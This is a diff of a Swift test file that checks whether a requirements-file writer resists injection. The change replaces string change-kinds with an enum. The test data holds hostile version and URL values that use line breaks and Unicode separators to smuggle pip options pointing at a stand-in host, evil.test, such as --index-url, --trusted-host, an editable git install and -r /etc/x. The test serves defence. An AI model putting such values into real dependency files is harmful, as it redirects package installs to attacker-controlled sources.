@@ -158,15 +158,15 @@ struct AttackReviewTests {
     @Test("requirements edit: a METADATA version or direct_url with line breaks or options adds no line pip reads")
     func requirementsInjection() throws {
         let sp = "/venv/lib/python3.11/site-packages"
-        func change(_ name: String, _ kind: String, _ to: String, url: String? = nil) -> PipChange {
+        func change(_ name: String, _ kind: PipChangeKind, _ to: String, url: String? = nil) -> PipChange {
             PipChange(name: name, change: kind, from: nil, to: to, sitePackages: sp, files: [], allowed: false, url: url)
         }
         let hostile = [
-            change("six", "upgraded", "1.17.0\r--index-url http://evil.test/simple"),
-            change("toml", "added", "0.10.2\u{2028}--extra-index-url http://evil.test/"),
-            change("tomli", "added", "-e git+http://evil.test/x"),
-            change("hotpatch", "editable", "0.1", url: "file:///src\n--trusted-host evil.test\u{85}-r /etc/x"),
-            change("wheel", "added", "0.42.0"),
+            change("six", .upgraded, "1.17.0\r--index-url http://evil.test/simple"),
+            change("toml", .added, "0.10.2\u{2028}--extra-index-url http://evil.test/"),
+            change("tomli", .added, "-e git+http://evil.test/x"),
+            change("hotpatch", .editable, "0.1", url: "file:///src\n--trusted-host evil.test\u{85}-r /etc/x"),
+            change("wheel", .added, "0.42.0"),
         ]
         let text = Requirements.apply(hostile, to: "# pins\nsix==1.16.0  # keep\n")
         // The oracle is pip's own line splitting (str.splitlines) of what drift writes.
